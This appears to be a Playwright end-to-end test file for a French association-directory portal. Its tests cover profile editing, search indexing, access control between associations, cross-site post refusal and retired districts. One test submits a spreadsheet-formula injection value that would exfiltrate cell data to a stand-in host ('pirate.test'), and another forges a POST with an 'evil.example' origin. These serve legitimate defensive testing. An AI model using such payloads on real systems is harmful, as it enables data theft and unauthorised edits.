// A member edits the association's profile and finds the change by searching; nobody edits another's.
import { expect, expectAccessible, getDb, loginAs, test } from "./support/fixtures";

test("a member edits the profile and the directory finds the change within seconds", async ({ page }) => {
  const member = await loginAs(page, "member", { association: { name: "Les Amis du Quartier Rosemont" } });
  await page.goto("/espace");
  await expectAccessible(page);
  await page.getByRole("link", { name: "Modifier la fiche de l'association" }).click();
  await expectAccessible(page);
  const word = `xylophones${Date.now().toString(36).replace(/\d/g, "")}`;
  await page.getByLabel("Objet social").fill(`Prêt de ${word} et ateliers de musique pour les enfants.`);
  await page.getByLabel("Téléphone").fill("06 12");
  await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
  await expect(page.getByRole("alert")).toContainText("numéro de téléphone français");
  await expect(page.getByLabel("Objet social")).toHaveValue(new RegExp(word));
  await page.getByLabel("Téléphone").fill("06 12 34 56 78");
  await page.getByRole("checkbox", { name: "Culture et loisirs solidaires" }).check();
  await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
  // The save does not wait for the search engine (issue 19): either it was quick, or it says the directory follows.
  await expect(page.getByRole("status")).toContainText(/visibles dans l'annuaire|L'annuaire sera mis à jour dans quelques instants/);

  // Searchable once the background sync ends (its speed is measured by `npm run bench`, not asserted here).
  const result = page.getByRole("link", { name: "Les Amis du Quartier Rosemont", exact: true });
  await expect(async () => {
    await page.goto(`/annuaire?q=${word}&champ=culture-loisirs-solidaires`);
    await expect(result).toBeVisible({ timeout: 250 });
  }).toPass({ timeout: 15_000, intervals: [100, 250, 500] });
  const saved = await getDb().association.findUniqueOrThrow({ where: { id: member.associationId! } });
  expect(saved.phone).toBe("0612345678");
});

test("a member cannot open or post to another association's pages", async ({ page }) => {
  const db = getDb();
  const other = await db.association.findFirstOrThrow({ where: { slug: "toit-commun" } });
  await loginAs(page, "member", { representative: true });
  const response = await page.goto(`/espace/associations/${other.id}/profil`);
  expect(response?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "Page introuvable" })).toBeVisible();
  await expectAccessible(page);

  const before = await db.association.findUniqueOrThrow({ where: { id: other.id } });
  const post = await page.request.post(`/espace/associations/${other.id}/profil`, {
    headers: { Origin: new URL(page.url()).origin },
    form: {
      name: "Piraté",
      socialObject: "x",
      address: "x",
      postcode: "25000",
      city: "x",
      district: "planoise",
      fields: "sante",
      publics: "femmes",
    },
  });
  expect(post.status()).toBe(404);
  const members = await page.request.post(`/espace/associations/${other.id}/membres`, {
    headers: { Origin: new URL(page.url()).origin },
    form: { intent: "invite", email: "intrus@exemple.test" },
  });
  expect(members.status()).toBe(404);
  const after = await db.association.findUniqueOrThrow({ where: { id: other.id } });
  expect(after.name).toBe(before.name);
  expect(after.updatedAt.getTime()).toBe(before.updatedAt.getTime());

  const staffPage = await page.request.get("/admin/associations");
  expect(staffPage.status()).toBe(403);
});

test("a cross-site form post is refused", async ({ page }) => {
  const member = await loginAs(page, "member");
  await page.goto("/espace");
  const response = await page.request.post(`/espace/associations/${member.associationId}/profil`, {
    headers: { Origin: "https://evil.example" },
    form: { name: "Piraté" },
  });
  expect(response.status()).toBe(403);
});

test("a name that starts like a spreadsheet formula is refused beside its field, in the browser and on the server", async ({ page }) => {
  const db = getDb();
  const member = await loginAs(page, "member", { association: { name: "Les Amis du Quartier Battant" } });
  await page.goto(`/espace/associations/${member.associationId}/profil`);
  const message = "Nom de l'association : ne peut pas commencer par =, +, -, @ ni par une tabulation.";
  await page.getByLabel("Nom de l'association").fill('=HYPERLINK("https://pirate.test/?d="&A2,"Cliquez")');
  await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
  await expect(page.getByRole("alert")).toContainText(message);
  await expect(page.getByLabel("Nom de l'association")).toHaveAttribute("aria-invalid", "true");
  await expectAccessible(page);

  // The same form posted without the browser's check: the action refuses it with the same message.
  const saved = await db.association.findUniqueOrThrow({ where: { id: member.associationId! }, include: { fields: true, publics: true } });
  const form = new URLSearchParams({
    name: "  @SUM(A1:A9)",
    socialObject: saved.socialObject,
    address: saved.address,
    postcode: saved.postcode,
    city: saved.city,
    district: saved.district,
  });
  for (const f of saved.fields) form.append("fields", f.slug);
  for (const p of saved.publics) form.append("publics", p.slug);
  const post = await page.request.post(`/espace/associations/${member.associationId}/profil`, {
    headers: { Origin: new URL(page.url()).origin, "Content-Type": "application/x-www-form-urlencoded" },
    data: form.toString(),
  });
  expect(post.status()).toBe(400);
  expect((await post.text()).replace(/<script[\s\S]*?<\/script>/g, "").replace(/&#x27;|&#39;/g, "'")).toContain(message);
  expect((await db.association.findUniqueOrThrow({ where: { id: member.associationId! } })).name).toBe("Les Amis du Quartier Battant");
});

test("a district the CCAS retired still shows on the profile, is refused on save, and another one is accepted", async ({ page }) => {
  const db = getDb();
  // A district of its own, so that no other journey sees it come and go.
  const slug = `ancien-quartier-${Date.now().toString(36)}`;
  await db.taxonomyTerm.create({ data: { kind: "district", slug, label: "Ancien quartier des Tanneurs", retiredAt: new Date() } });
  try {
    const member = await loginAs(page, "member", { association: { name: "Les Amis des Tanneurs", district: slug } });
    const district = page.getByRole("combobox", { name: "Quartier" });
    // The portal keeps its taxonomy a few seconds: until it reads the new district, the page may not know it.
    await expect(async () => {
      await page.goto(`/espace/associations/${member.associationId}/profil`);
      await expect(district.locator("option:checked")).toHaveText("Ancien quartier des Tanneurs (n'est plus proposé)", { timeout: 500 });
    }).toPass({ timeout: 15_000 });
    await expectAccessible(page);
    await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
    await expect(page.getByRole("alert")).toContainText("Ce quartier n'est plus proposé : choisissez-en un autre.");
    await expect(district).toHaveAttribute("aria-invalid", "true");
    await expectAccessible(page);

    await district.selectOption({ label: "Planoise" });
    await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
    await expect(page.getByRole("status")).toContainText("Fiche enregistrée");
    expect((await db.association.findUniqueOrThrow({ where: { id: member.associationId! } })).district).toBe("planoise");
    // Only active districts are offered once the association has left the retired one.
    await expect(district.locator("option", { hasText: "Ancien quartier des Tanneurs" })).toHaveCount(0);
  } finally {
    await db.taxonomyTerm.delete({ where: { kind_slug: { kind: "district", slug } } });
  }
});
